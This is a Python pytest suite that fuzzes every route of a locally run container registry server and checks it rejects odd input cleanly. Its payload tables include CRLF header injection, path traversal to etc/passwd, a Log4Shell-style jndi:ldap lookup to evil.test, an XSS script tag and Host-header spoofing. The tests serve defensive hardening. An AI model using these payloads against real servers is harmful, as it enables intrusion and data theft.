"""Odd characters at every door of a real server: no 5xx, no cut connection, no header of theirs.

The doors are read from the routes. What is sent are the forms by which others' servers were
misled: line breaks in headers (CWE-113), the quote that ends a challenge's parameter, bytes that
are no UTF-8, encoded slashes and dots (CVE-2024-4956 of Nexus), and names without end.
"""

import asyncio
import re
import socket
import threading
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final
from urllib.parse import unquote

import pytest
import uvicorn

from registry.app import create_app
from registry.settings import Settings
from registry.web.asgi.protocol import ShortcutProtocol
from registry.wiring.services import open_services
from tests.registry.accounts import HASH, basic, write_policy
from tests.registry.doors import DOORS, Door
from tests.registry.web.api.site import BUILDS, Site, wish

pytestmark = pytest.mark.anyio

#: As they stand in an address: escapes, then bytes as they are.
ODD: Final[dict[str, bytes]] = {
    "nul": b"a%00b",
    "line": b"a%0d%0aX-Injected:%201",
    "lines": b"%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a%0d%0a",
    "lone-line-feed": b"a%0aX-Injected:1",
    "quote": b"a%22,realm=%22http://evil.test/",
    "quotes": b"%22%22%22",
    "backslash": b"a%5c%22b%5c",
    "comma": b"a,b;c=d",
    "euro": b"%e2%82%ac",
    "emoji": b"%f0%9f%90%8d",
    "lone-surrogate": b"%ed%a0%80",
    "overlong": b"%c0%af%c0%ae",
    "no-utf-8": b"%ff%fe",
    "cut-utf-8": b"%e2%82",
    "no-escape": b"%zz%",
    "encoded-slash": b"..%2f..%2fetc%2fpasswd",
    "many-slashes": b"%2F%2F%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "dots": b"..",
    "encoded-dots": b"%2e%2e",
    "twice": b"%252e%252e%252f%250d%250a",
    "path-parameter": b"..;/x",
    "backslashes": b"..%5c..%5c",
    "tab-and-blank": b"%09a%20",
    "escape-sequence": b"%1b[31m%1b]0;x%07",
    "delete": b"%7f%80%9f",
    "line-separator": b"%e2%80%a8%c2%85",
    "bidi": b"%e2%80%ae",
    "markup": b"%3Cscript%3Ealert(1)%3C/script%3E",
    "template": b"%24%7Bjndi:ldap://evil.test/a%7D%7B%7B7*7%7D%7D%25s%25n",
    "long": b"a" * 5000,
    "long-escapes": b"%e2%82%ac" * 500,
    "dashes": b"-" * 200,
    "bytes": b"\xe2\x82\xac",
    "raw-quote": b'a"b',
    "raw-brackets": b"<>{}|^`",
    "raw-control": b"a\x01b",
}
#: Whole lines of requests that no address of ours is in.
LINES: Final = [
    b"OPTIONS * HTTP/1.1",
    b"GET * HTTP/1.1",
    b"CONNECT registry.test:443 HTTP/1.1",
    b"GET http://evil.test/v2/ HTTP/1.1",
    b"GET http://evil.test HTTP/1.1",
    b"GET //evil.test/v2/ HTTP/1.1",
    b"GET ?x HTTP/1.1",
    b"GET http:///v2/ HTTP/1.1",
    b"GET http://[::1/v2/ HTTP/1.1",
    b"GET /v2/?%0d%0aX-Injected:1 HTTP/1.1",
    b"GET /v2/#\xe2\x82\xac HTTP/1.1",
    b"PRI * HTTP/2.0",
    b"TRACE /v2/ HTTP/1.1",
    b"FOO / HTTP/1.1",
]
HEADERS: Final = [
    b'Host: a",realm="evil',
    b"Host: \xe2\x82\xac",
    b"Host: evil.test\x00",
    b"Host: evil.test/?",
    b"X-Forwarded-Host: evil.test",
    b'X-Forwarded-Proto: x",realm="evil',
    b'X-Forwarded-Prefix: /"evil',
    b"X-Request-Id: a\xff",
    b'X-Request-Id: a"b',
    b"Authorization: Basic \xff\xfe",
    b"Authorization: Basic AAAA////AAAA",
    b"Authorization: Bearer \xe2\x82\xac",
    b'Authorization: Digest username="a"',
    b"Prefer: wait=\xb2",
    b"Last-Event-ID: \xb2\xb2",
    b"Content-Type: \xff",
    b"Content-Encoding: \xff",
    b"Content-Range: \xb2-\xb3",
    b"Range: bytes=\xb2-",
    b'If-None-Match: W/"\xff, *',
    b"Accept: \xff;q=\xb2",
    b"User-Agent: \xe2\x82\xac containerd/\xb2",
]
STATUS: Final = re.compile(rb"HTTP/1\.1 ([1-5][0-9]{2}) [ -~]*")
LINE: Final = re.compile(rb"([a-z0-9-]+): ([!-~](?:[ -~]*[!-~])?)?")
#: All that answers ever have.
KNOWN: Final = set(
    b"date server content-type content-length connection cache-control www-authenticate allow"
    b" location x-request-id docker-distribution-api-version docker-content-digest etag vary"
    b" accept-ranges content-range content-disposition retry-after link range docker-upload-uuid"
    b" oci-filters-applied oci-subject oci-tag pullforge-build preference-applied transfer-encoding"
    b" x-accel-buffering content-security-policy x-content-type-options referrer-policy"
    b" set-cookie cross-origin-opener-policy content-encoding".split()
)


@dataclass(frozen=True)
class Answer:
    status: int
    headers: dict[bytes, bytes]
    body: bytes


@dataclass(frozen=True)
class RunningServer:
    """A server on a socket."""

    port: int

    async def send(self, data: bytes, *, is_head: bool = False) -> Answer:
        """Send a request by itself; return its answer, which is whole."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        try:
            writer.write(data)
            async with asyncio.timeout(60):
                head = await reader.readuntil(b"\r\n\r\n")
                first, *lines = head[:-4].split(b"\r\n")
                status = STATUS.fullmatch(first)
                assert status, first
                headers = {}
                for line in lines:
                    match = LINE.fullmatch(line)
                    assert match, line
                    assert match[1] in KNOWN, line
                    assert match[1] not in headers, line
                    headers[match[1]] = match[2] or b""
                length = int(headers.get(b"content-length", b"0"))
                body = b"" if is_head else await reader.readexactly(length)
            return Answer(int(status[1]), headers, body)
        finally:
            writer.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """A server as ``pullforge serve`` runs it, which builds from a tiny channel."""
    root = tmp_path_factory.mktemp("odd")
    site = Site.make(root)
    write_policy(
        root / "auth.toml",
        'private = ["team/**"]',
        "[users.ada]",
        f"hash = '{HASH}'",
        'rights = ["**:*"]',
    )
    yield from serve(site, root)


def serve(site: Site, root: Path) -> Iterator[RunningServer]:
    settings = Settings(
        store=str(site.store),
        channels={"main": f"file://{site.channel}"},
        default_channels=["main"],
        base=f"oci:{root / 'base'}",
        workers=1,
        sandbox="none",
        auth_file=root / "auth.toml",
        bases=["registry:**"],
    )
    app = create_app(lambda: open_services(settings, now=site.clock))
    config = uvicorn.Config(
        app, "127.0.0.1", 0, http=ShortcutProtocol, log_config=None, access_log=False
    )
    running = uvicorn.Server(config)
    listening = socket.create_server(("127.0.0.1", 0))
    thread = threading.Thread(target=running.run, args=([listening],))
    thread.start()
    yield RunningServer(listening.getsockname()[1])
    running.should_exit = True
    thread.join(60)


def request(door: Door, path: bytes, *lines: bytes, body: bytes = b"") -> bytes:
    host = [] if any(line.lower().startswith(b"host:") for line in lines) else [b"Host: r.test"]
    length = [] if door.method in {"GET", "HEAD"} else [b"Content-Length: %d" % len(body)]
    first = b"%s %s HTTP/1.1" % (door.method.encode(), path)
    return b"\r\n".join([first, *host, *lines, *length, b"", body])


def addresses(door: Door, odd: bytes) -> Iterator[bytes]:
    """Yield the door's address with something odd in each of its fields, and behind it."""
    fields = re.findall(r"\{(\w+)\}", door.template)
    sound = {
        "name": "team/x",
        "reference": "v1",
        "digest": f"sha256:{'0' * 64}",
        "id": "0" * 32,
        "key": "0" * 32,
        "other": "1" * 32,
        "sha256": "0" * 64,
        "namespace": "vacant",
        "environment": "x",
        "policy": "x",
        "package": "tool",
        "user": "x",
        "group": "x",
        "form": "lock",
        "file": "x/environment.yml",
        **dict.fromkeys(("number", "a", "b", "delivery"), "1"),
    }
    for one in fields:
        path = door.template.format(**{**sound, one: "\0"})
        yield path.encode().replace(b"\0", odd)
    if "name" in fields:  # of what is made here
        path = door.template.format(**{**sound, "name": "env/\0"})
        yield path.encode().replace(b"\0", odd)
    whole = door.url(**sound).encode()
    yield whole + b"?n=1&last=" + odd + b"&" + odd + b"=" + odd
    # Each parameter that some handler reads.
    names = b"digest mount from digest-algorithm artifactType n last scope service account"
    names += b" platform format renew tag wait limit after search version deleted note"
    names += b" namespace environment channel package kind q copy only versions"
    query = b"&".join(b"%s=%s" % (name, odd) for name in names.split())
    yield whole + b"?" + query[:6000]


async def complaint(server: RunningServer, door: Door, data: bytes) -> str | None:
    """Return what is wrong with the answer to a request, if anything is."""
    try:
        answer = await server.send(data, is_head=door.method == "HEAD")
    except (AssertionError, OSError, EOFError, TimeoutError) as exc:
        return f"{data[:200]!r}: {exc!r}"
    challenge = answer.headers.get(b"www-authenticate", b"")
    if answer.status >= 500 or challenge.count(b"realm=") > 1 or b"evil" in challenge:
        return f"{data[:200]!r}: {answer.status} {challenge!r} {answer.body[:200]!r}"
    if b"evil" in answer.headers.get(b"location", b"").partition(b"?")[0]:
        return f"{data[:200]!r}: {answer.headers!r}"
    return None


async def complaints(server: RunningServer, sent: Iterable[tuple[Door, bytes]]) -> list[str]:
    found = [await complaint(server, door, data) for door, data in sent]
    return [one for one in found if one is not None]


@pytest.mark.parametrize("odd", ODD)
async def test_odd_characters_are_refused_at_every_door(server: RunningServer, odd: str) -> None:
    authorization = b"Authorization: " + basic("ada").encode()
    sent = (
        (door, request(door, path, *lines))
        for door in DOORS
        for path in addresses(door, ODD[odd])
        for lines in ((), (authorization,))
    )
    assert await complaints(server, sent) == []


async def test_odd_request_lines_are_answered(server: RunningServer) -> None:
    door = Door("GET", "/", None)
    sent = ((door, line + b"\r\nHost: r.test\r\n\r\n") for line in LINES)
    assert await complaints(server, sent) == []


async def test_odd_headers_are_answered_at_every_door(server: RunningServer) -> None:
    sent = (
        (door, request(door, [*addresses(door, b"x")][-1], line, body=b"{}"))
        for door in DOORS
        for line in HEADERS
    )
    assert await complaints(server, sent) == []


async def test_odd_names_of_bases_are_refused(server: RunningServer) -> None:
    door = Door("POST", BUILDS, "build")
    sent = []
    for odd in map(unquote, (text.decode("latin-1") for text in ODD.values())):
        for base in (f"registry:team/{odd}", f"registry:{odd}", f"registry:team/x@{odd}", odd):
            body = wish("tool", base=base)
            sent.append((door, request(door, BUILDS.encode(), body=body)))
    assert await complaints(server, sent) == []
